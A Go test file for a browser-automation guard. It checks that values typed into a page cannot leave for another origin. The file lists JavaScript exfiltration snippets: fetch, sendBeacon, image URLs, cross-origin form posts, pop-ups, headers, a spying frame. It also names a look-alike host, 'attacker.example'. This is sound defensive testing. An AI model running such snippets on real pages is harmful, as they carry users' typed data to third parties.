package chrome

import (
	"errors"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// strangers are two sites: ours, where typing is allowed, and another.
func strangers(t testing.TB, script string) (ours, other *site) {
	t.Helper()
	other = newSite(t, map[string]string{"/": "<title>Other</title>", "/captcha": `<script>
		fetch("/solve", {method: "POST", body: "I am a person"}).then(() => parent.postMessage("solved", "*"))</script>`})
	other.handle("/x", func(w http.ResponseWriter, _ *http.Request) {
		for _, what := range []string{"Origin", "Headers", "Methods"} {
			w.Header().Set("Access-Control-Allow-"+what, "*")
		}
	})
	return sender(t, strings.ReplaceAll(script, "OTHER", other.local())), other
}

func TestValuesNeverGoElsewhere(t *testing.T) {
	t.Parallel()
	for name, script := range map[string]string{
		"fetch":                 `fetch("OTHER/x", {method: "POST", mode: "no-cors", body: mail})`,
		"beacon":                `navigator.sendBeacon("OTHER/x", mail)`,
		"image with the value":  `new Image().src = "OTHER/x?m=" + encodeURIComponent(mail)`,
		"form":                  `document.forms.f.action = "OTHER/x", document.forms.f.submit()`,
		"form in a pop-up":      `document.forms.f.action = "OTHER/x", document.forms.f.target = "_blank", document.forms.f.submit()`,
		"form in a frame":       `document.forms.f.action = "OTHER/x", document.forms.f.target = "inner", document.forms.f.submit()`,
		"link with the value":   `location = "OTHER/x?m=" + encodeURIComponent(mail)`,
		"post without values":   `fetch("OTHER/x", {method: "POST", mode: "no-cors", body: "who knows"})`,
		"header with the value": `fetch("OTHER/x", {headers: {"X-Mail": mail}}).catch(() => 0)`,
		"stream":                `fetch("OTHER/x", {method: "POST", mode: "no-cors", body: new Blob([mail.slice(0, 3), mail.slice(3)])})`,
		"pop-up":                `open("OTHER/x?m=" + encodeURIComponent(mail))`,
		"reload of the address": `document.referrerPolicy = "unsafe-url", location.search = "m=" + encodeURIComponent(mail)`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ours, other := strangers(t, script)
			tab := visit(t, shared(t, shell), ours, "/")
			typeInto(tab)
			asPage(t, tab, `void go.click()`)
			if name == "reload of the address" { // our own origin: allowed, and told
				awaitChange(t, tab, func() bool { return len(tab.Partials()) == 1 })
				return
			}
			awaitChange(t, tab, func() bool { return len(tab.Refused()) > 0 })
			for _, r := range tab.Refused() {
				if r.Why != Elsewhere || r.Origin != other.local() || strings.Contains(r.Path, planted) {
					t.Errorf("refused as %+v", r)
				}
			}
			if got := slices.DeleteFunc(other.received(), func(l string) bool { return strings.HasPrefix(l, "OPTIONS") }); len(got) > 0 {
				t.Errorf("the other site received %q", got)
			}
		})
	}
}

func TestASendThatGoesElsewhereIsAnErrorAndNotHeld(t *testing.T) {
	t.Parallel()
	ours, other := strangers(t, `document.forms.f.action = "OTHER/x", document.forms.f.submit()`)
	tab := visit(t, shared(t, shell), ours, "/")
	typeInto(tab)
	_, err := tab.Send(within(t), admit(t, tab), newClerk(t).permit(), button(t, tab, "go"))
	if !errors.Is(err, ErrElsewhere) || len(other.received()) > 0 {
		t.Errorf("%v; received %q", err, other.received())
	}
}

func TestARedirectOfTheSendIsJudgedByItsOrigin(t *testing.T) {
	t.Parallel()
	for _, way := range []string{"fetch", "form post"} {
		for _, status := range []int{http.StatusTemporaryRedirect, http.StatusPermanentRedirect} {
			i := slices.IndexFunc(ways, func(w struct{ name, script, arrives string }) bool { return w.name == way })
			ours, other := strangers(t, ways[i].script)
			ours.handle("/post", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, other.local()+"/x", status) })
			tab := visit(t, shared(t, shell), ours, "/")
			_, x := sendAll(t, tab)
			if x.Err == "" || len(other.received()) > 0 {
				t.Errorf("%s %d to another origin: %+v; received %q", way, status, x, other.received())
			}
			ours.handle("/post", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/there", status) })
			tab = visit(t, shared(t, shell), ours, "/")
			_, x = sendAll(t, tab)
			if got := ours.sent(); x.Status != 200 || len(got) != 3 || !strings.HasPrefix(got[2], "POST /there ") {
				t.Errorf("%s %d to its own origin: %+v; received %q", way, status, x, got)
			}
		}
	}
}

func TestAMainFrameGoesOnlyWhereItMay(t *testing.T) {
	t.Parallel()
	ours, other := strangers(t, ``)
	ours.handle("/away", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, other.local()+"/", http.StatusFound) })
	tab := visit(t, shared(t, shell), ours, "/")
	if _, err := tab.Navigate(within(t), ours.URL+"/away"); !errors.Is(err, ErrElsewhere) {
		t.Errorf("a redirect: %v", err)
	}
	if _, err := tab.Navigate(within(t), other.local()+"/"); !errors.Is(err, ErrElsewhere) {
		t.Errorf("an address: %v", err)
	}
	if _, err := tab.Navigate(within(t), "https://facebook.com.attacker.example/"); !errors.Is(err, ErrElsewhere) {
		t.Errorf("a look-alike: %v", err)
	}
	if _, err := tab.Navigate(within(t), ours.URL+"/"); err != nil {
		t.Errorf("afterwards: %v", err)
	}
	if got := other.received(); len(got) > 0 {
		t.Errorf("the other site received %q", got)
	}
	reader := openTab(t, shared(t, shell), Guard{Type: []string{ours.URL}, Read: []string{other.local()}})
	if x, err := reader.Navigate(within(t), ours.URL+"/away"); err != nil || x.Status != 200 || x.Origin != other.local() {
		t.Errorf("to an origin that may be read: %+v, %v", x, err)
	}
}

func TestACaptchasFrameTalksToItsOwnHost(t *testing.T) {
	t.Parallel()
	ours, other := strangers(t, `onmessage = () => document.title = "solved"; inner.location = "OTHER/captcha"`)
	for _, b := range []func() (*Browser, error){shell, full} {
		tab := visit(t, shared(t, b), ours, "/")
		typeInto(tab)
		asPage(t, tab, `void go.click()`)
		other.arrives("POST /solve I am a person")
		if r := tab.Refused(); len(r) > 0 {
			t.Errorf("refused %+v", r)
		}
	}
}

// What a captcha's frame was told by the page goes nowhere else, even where
// Chrome keeps a body to itself.
func TestACaptchasFrameDoesNotCarryValuesAway(t *testing.T) {
	t.Parallel()
	for name, body := range map[string]string{
		"text":  `e.data`,
		"blob":  `new Blob([e.data])`,
		"bytes": `new Uint8Array([255, 254, 0, ...new TextEncoder().encode(e.data)])`,
	} {
		for browser, get := range map[string]func() (*Browser, error){"shell": shell, "full": full} {
			if browser == "full" && name != "blob" {
				continue // a frame out of process is asked in the same way
			}
			t.Run(name+"/"+browser, func(t *testing.T) {
				t.Parallel()
				ours, other := strangers(t, `inner.location = "OTHER/spy"; onmessage = () => inner.postMessage(mail, "*")`)
				other.page("/spy", `<script>onmessage = e => fetch("/x", {method: "POST", body: `+body+`}).catch(() => 0); parent.postMessage("here", "*")</script>`)
				tab := visit(t, shared(t, get), ours, "/")
				typeInto(tab)
				asPage(t, tab, `void go.click()`)
				if why := refusals(t, tab, 1); why[0] != Elsewhere {
					t.Errorf("refused as %q", why)
				}
				if got := other.received(); len(got) > 0 {
					t.Errorf("the other site received %q", got)
				}
			})
		}
	}
}

// A page that leaves for another address between the reading and the typing.
func TestARedirectBeforeTypingTypesNothing(t *testing.T) {
	t.Parallel()
	ours, other := strangers(t, ``)
	other.page("/", `<title>Other</title><label>E-mail <input autofocus></label>`)
	ours.page("/", `<title>Form</title><label>E-mail <input></label>`)
	tab := openTab(t, shared(t, shell), Guard{Type: []string{ours.URL}, Read: []string{other.local()}, Masker: carrier(planted)})
	if _, err := tab.Navigate(within(t), ours.URL+"/"); err != nil {
		t.Fatal(err)
	}
	p := awaitNode(t, tab, "textbox", "E-mail")
	n := named(t, p, "textbox", "E-mail")
	admitted := allow(t, p, n)
	asPage(t, tab, `void (location = "`+other.local()+`/")`)
	awaitTitle(t, tab, "Other")
	if _, err := tab.Fill(within(t), admitted, n, planted); !errors.Is(err, ErrStale) {
		t.Errorf("filling with the old permission: %v", err)
	}
	p = awaitNode(t, tab, "textbox", "E-mail")
	n = named(t, p, "textbox", "E-mail")
	if _, err := tab.Fill(within(t), allow(t, p, n), n, planted); !errors.Is(err, ErrElsewhere) {
		t.Errorf("filling the other's field: %v", err)
	}
	if got := evaluate(t, tab, `document.querySelector("input").value`).Str(); got != "" {
		t.Errorf("the other's field holds %q", got)
	}
}

func TestSubresourcesComeFromAnywhereBeforeTyping(t *testing.T) {
	t.Parallel()
	ours, other := strangers(t, `fetch("OTHER/x", {method: "POST", mode: "no-cors", body: "telemetry"})`)
	tab := visit(t, shared(t, shell), ours, "/")
	asPage(t, tab, `void go.click()`)
	other.arrives("POST /x telemetry")
}

func TestNavigationErrorsAreNamed(t *testing.T) {
	t.Parallel()
	s := newSite(t, map[string]string{"/": "x"})
	s.handle("/missing", http.NotFound)
	tab := openTab(t, shared(t, shell), Guard{Type: []string{s.URL, "http://127.0.0.1:1"}})
	_, err := tab.Navigate(within(t), "http://127.0.0.1:1/a@b")
	var named *NavigationError
	if !errors.As(err, &named) || named.Reason != "net::ERR_UNSAFE_PORT" || strings.Contains(err.Error(), "a@b") {
		t.Errorf("a port that Chrome does not go to: %v", err)
	}
	if x, err := tab.Navigate(within(t), s.URL+"/missing"); err != nil || x.Status != 404 || tab.Document().Status != 404 {
		t.Errorf("a missing page: %+v, %v", x, err)
	}
}
